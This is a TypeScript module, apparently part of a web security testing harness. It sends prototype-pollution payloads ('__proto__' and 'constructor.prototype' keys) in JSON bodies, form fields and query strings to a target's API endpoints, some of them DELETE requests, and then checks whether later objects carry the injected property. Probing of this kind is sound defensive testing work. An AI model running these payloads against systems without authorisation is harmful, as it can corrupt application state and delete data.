import type { Answer, Attempt, Target } from "./target.ts";
import { add, authorised, call, failed, form, jsonOf } from "./target.ts";

const PAYLOADS = [
  '{"__proto__":{"polluted":"yes","status":200}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"__proto__":[],"length":3}',
  '{"name":{"__proto__":{"polluted":"yes"}}}',
  '{"toString":"x","valueOf":"x","hasOwnProperty":"x"}',
];
const KEYS = ["__proto__", "__proto__[polluted]", "constructor", "constructor[prototype][polluted]", "toString", "hasOwnProperty"];
const CALLS = ["/api", "/api/inquiry/c", "/api/contact/inquiry", "/api/request", "/logAdmin"];

/** Names that JavaScript's own objects have. */
export async function* prototypes(target: Target): AsyncGenerator<Attempt> {
  const headers = { "Content-Type": "application/json" };
  for (const path of CALLS) {
    for (const body of PAYLOADS) yield judged(`POST ${path} ${body}`, await call(target, "POST", path, { headers, body }));
  }
  for (const body of PAYLOADS) {
    yield judged(
      `DELETE /api/ebrochure ${body}`,
      await call(target, "DELETE", "/api/ebrochure", { headers: { ...headers, ...authorised(target) }, body }),
    );
  }
  for (const key of KEYS) {
    const body = form({ [key]: "polluted", "__proto__[title]": "polluted" });
    yield judged(`a form with ${key}`, await call(target, "POST", "/api/main-category", { headers: authorised(target), body }));
    const { status } = await call(target, "GET", `/product?${encodeURIComponent(key)}=polluted&category=${encodeURIComponent(key)}`);
    yield { what: `an address with ${key}`, ...(status >= 500 && { hit: `answered ${status}` }) };
  }
  const { data } = await add(target, "/api/main-category", form({ title: "Pure" }));
  const list = await call(target, "GET", "/api/main-category");
  const isPolluted = "polluted" in (data ?? {}) || jsonOf<object[]>(list)?.some((row) => JSON.stringify(row).includes("polluted"));
  yield { what: "objects made afterwards", ...(isPolluted && { hit: "have the new property" }) };
}

function judged(what: string, answer: Answer) {
  const hit = failed(answer) ?? (answer.status < 400 || answer.body.includes('"polluted"') ? `answered ${answer.status}` : undefined);
  return { what, ...(hit && { hit }) };
}
